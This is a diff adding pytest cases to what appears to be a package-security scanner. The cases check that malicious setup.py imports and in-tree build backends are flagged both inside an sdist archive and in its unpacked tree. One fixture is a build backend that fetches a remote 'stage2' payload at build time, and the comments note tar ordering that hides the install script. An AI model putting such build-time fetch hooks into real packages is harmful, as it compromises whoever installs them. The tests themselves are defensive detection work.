@@ -9,6 +9,7 @@ and a module of another folder.
 
 from __future__ import annotations
 
+import tarfile
 import textwrap
 from pathlib import Path
 
@@ -186,3 +187,82 @@ def test_the_backend_module_is_found_with_its_packages() -> None:
     present = {"pkg-1.0/pyproject.toml", "pkg-1.0/b/__init__.py", "pkg-1.0/b/api.py"}
     texts = {"pkg-1.0/pyproject.toml": _pyproject("b.api", 'backend-path = ["."]')}
     assert build_backends(present, texts.get) == {"pkg-1.0/b/__init__.py", "pkg-1.0/b/api.py"}
+
+
+# -- an sdist judged as its unpacked tree (attack8) -------------------------------------
+
+
+def _sdist(root: Path, target: Path) -> Path:
+    """``root``'s files as an sdist (``pkg-1.0/...`` in a gzipped tar), members in the
+    order that hides most: the install script last."""
+    files = sorted((p for p in root.rglob("*") if p.is_file()), key=lambda p: p.name == "setup.py")
+    with tarfile.open(target, "w:gz") as archive:
+        for path in files:
+            archive.add(path, arcname=f"pkg-1.0/{path.relative_to(root).as_posix()}")
+    return target
+
+
+_BACKEND_NETWORK = """\
+import urllib.request
+
+from setuptools.build_meta import *  # noqa
+
+urllib.request.urlopen("https://files.example.com/stage2").read()
+"""
+
+
+@pytest.mark.parametrize(
+    ("files", "expected"),
+    [
+        (
+            {"setup.py": _SETUP.format(importer="import _helper"), "_helper.py": _PAYLOAD},
+            {("CPL-THR-019", "_helper.py")},
+        ),
+        (
+            {
+                "setup.py": _SETUP.format(importer="from colour_build import steps"),
+                "colour_build/__init__.py": "",
+                "colour_build/steps.py": _PAYLOAD,
+            },
+            {("CPL-THR-019", "colour_build/steps.py")},
+        ),
+        (
+            {
+                "pyproject.toml": _pyproject("backend", 'backend-path = ["_build"]'),
+                "_build/backend.py": "from setuptools.build_meta import *  # noqa\n" + _PAYLOAD,
+            },
+            {("CPL-THR-019", "_build/backend.py")},
+        ),
+        # network at build time in an in-tree backend: pip runs it as it runs setup.py
+        (
+            {
+                "pyproject.toml": _pyproject("backend", 'backend-path = ["."]'),
+                "backend.py": _BACKEND_NETWORK,
+            },
+            {("CPL-THR-011", "backend.py")},
+        ),
+        # the near misses stay ordinary in an sdist too
+        ({"setup.py": _SETUP.format(importer=""), "_helper.py": _PAYLOAD}, set()),
+        (
+            {"setup.py": _SETUP.format(importer="import _helper"), "tools/_helper.py": _PAYLOAD},
+            set(),
+        ),
+        (
+            {
+                "setup.py": _SETUP.format(importer="from buildlib import fetch"),
+                "buildlib.py": "import urllib.request\n\n\ndef fetch(url):\n"
+                "    return urllib.request.urlopen(url).read()\n",
+            },
+            set(),
+        ),
+    ],
+)
+def test_an_sdist_is_judged_as_its_unpacked_tree(
+    tmp_path: Path, files: dict[str, str], expected: set[tuple[str, str]]
+) -> None:
+    # package mode streamed an sdist's members and decided install scripts per file (a
+    # setup.py), so what setup.py or a build backend imports was an ordinary module there
+    # and an install script on disk: pip run from it was found only unpacked (attack8)
+    root = _tree(tmp_path / "tree", files)
+    assert _danger(root) == expected
+    assert _danger(_sdist(root, tmp_path / "pkg-1.0.tar.gz")) == expected
